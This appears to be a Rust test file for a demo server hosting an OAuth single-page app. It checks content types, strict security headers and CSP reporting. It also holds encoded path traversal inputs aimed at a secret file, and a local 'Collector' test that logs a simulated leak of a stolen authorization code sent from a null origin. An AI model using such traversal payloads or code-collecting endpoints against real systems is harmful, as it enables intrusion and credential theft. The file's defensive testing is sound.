//! The host of an app: files, types, headers and reports. And the collector.

#![allow(clippy::unwrap_used, clippy::panic, missing_docs)]

use std::fs;
use std::path::PathBuf;

use demo_server::{AppHost, AppOptions, Collector, Document, Mount, strict_csp};
use reqwest::{Method, Response};
use serde_json::json;

#[tokio::test]
async fn files_have_their_types_and_strict_headers() {
    let (app, _directory) = app("types").await;
    for (path, media_type) in [
        ("/", "text/html"),
        ("/index.html", "text/html"),
        ("/style.css", "text/css"),
        ("/basic-oauth/index.js", "text/javascript"),
        ("/basic-oauth/basic_oauth.wasm", "application/wasm"),
        ("/config.json", "application/json"),
    ] {
        let response = load(&app, path).await;
        assert_eq!(response.status(), 200, "{path}");
        let headers = response.headers();
        assert_eq!(headers["content-type"], media_type, "{path}");
        assert_eq!(headers["referrer-policy"], "no-referrer");
        assert_eq!(headers["x-content-type-options"], "nosniff");
        assert_eq!(headers["cache-control"], "no-store");
        let csp = headers["content-security-policy"].to_str().unwrap();
        assert!(csp.contains("script-src 'self' 'wasm-unsafe-eval';"));
        assert!(csp.contains("require-trusted-types-for 'script'"));
        assert!(csp.ends_with("report-uri /csp-report"));
    }
}

#[tokio::test]
async fn routes_of_the_app_return_its_page_and_missing_files_do_not() {
    let (app, _directory) = app("routes").await;
    for route in ["/callback", "/callback?code=x&state=y", "/deep/er/route"] {
        let response = load(&app, route).await;
        assert_eq!(response.status(), 200, "{route}");
        assert_eq!(response.text().await.unwrap(), "<!doctype html>");
    }
    for missing in ["/gone.js", "/basic-oauth/gone", "/basic-oauth/gone.js"] {
        assert_eq!(load(&app, missing).await.status(), 404, "{missing}");
    }
    for outside in ["/..%2fsecret.txt", "/%2e%2e/secret.txt", "/basic-oauth/..%2f..%2fsecret.txt"] {
        let response = load(&app, outside).await;
        assert!(!response.text().await.unwrap().contains("secret"), "{outside}");
    }
}

#[tokio::test]
async fn documents_can_be_published_later_with_a_policy_of_their_own() {
    let (app, _directory) = app("documents").await;
    assert_eq!(load(&app, "/late.html").await.status(), 404);
    let late = Document { csp: Some(String::new()), ..Document::html("/late.html", "late") };
    app.publish(late);
    let response = load(&app, "/late.html").await;
    assert!(response.headers().get("content-security-policy").is_none());
    assert_eq!(response.text().await.unwrap(), "late");
}

#[tokio::test]
async fn policy_reports_are_collected() {
    let (app, _directory) = app("reports").await;
    let report = json!({ "csp-report": { "violated-directive": "script-src" } });
    let request = reqwest::Client::new().post(format!("{}/csp-report", address(&app)));
    let request = request.header("content-type", "application/csp-report");
    assert_eq!(request.body(report.to_string()).send().await.unwrap().status(), 204);
    assert_eq!(app.csp_reports(), [report]);
    assert_eq!(app.requests().len(), 1);
}

#[tokio::test]
async fn the_collector_accepts_and_logs_every_request() {
    let collector = Collector::start().await.unwrap();
    let url = format!("{}/leak?x=1", collector.origin());
    let client = reqwest::Client::new();
    let preflight = client
        .request(Method::OPTIONS, &url)
        .header("origin", "null")
        .header("access-control-request-method", "POST")
        .header("access-control-request-headers", "authorization,dpop");
    let response = preflight.send().await.unwrap();
    assert_eq!(response.headers()["access-control-allow-origin"], "null");
    assert_eq!(response.headers()["access-control-allow-headers"], "authorization,dpop");
    client.post(&url).header("origin", "null").body("code=stolen").send().await.unwrap();
    let log = collector.requests();
    assert_eq!(log.len(), 2);
    assert_eq!(log[1].body, "code=stolen");
    assert_eq!(log[1].query_param("x").as_deref(), Some("1"));
}

/// Starts the host of a small app in a directory of its own.
async fn app(name: &str) -> (AppHost, PathBuf) {
    let directory = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join(name);
    fs::create_dir_all(directory.join("spa")).unwrap();
    fs::create_dir_all(directory.join("npm")).unwrap();
    for (file, content) in [
        ("secret.txt", "secret"),
        ("spa/index.html", "<!doctype html>"),
        ("spa/style.css", ""),
        ("npm/index.js", ""),
        ("npm/basic_oauth.wasm", ""),
    ] {
        fs::write(directory.join(file), content).unwrap();
    }
    let options = AppOptions {
        mounts: vec![
            Mount::new("/", directory.join("spa")).spa(),
            Mount::new("/basic-oauth/", directory.join("npm")),
        ],
        documents: vec![Document::json("/config.json", &json!({}))],
        csp: Some(strict_csp("http://127.0.0.1:9")),
        ..AppOptions::default()
    };
    (AppHost::start(options).await.unwrap(), directory)
}

async fn load(app: &AppHost, path: &str) -> Response {
    reqwest::get(format!("{}{path}", address(app))).await.unwrap()
}

/// Returns the origin with an IP address, so that no name is resolved.
fn address(app: &AppHost) -> String {
    app.origin().replace("localhost", "127.0.0.1")
}
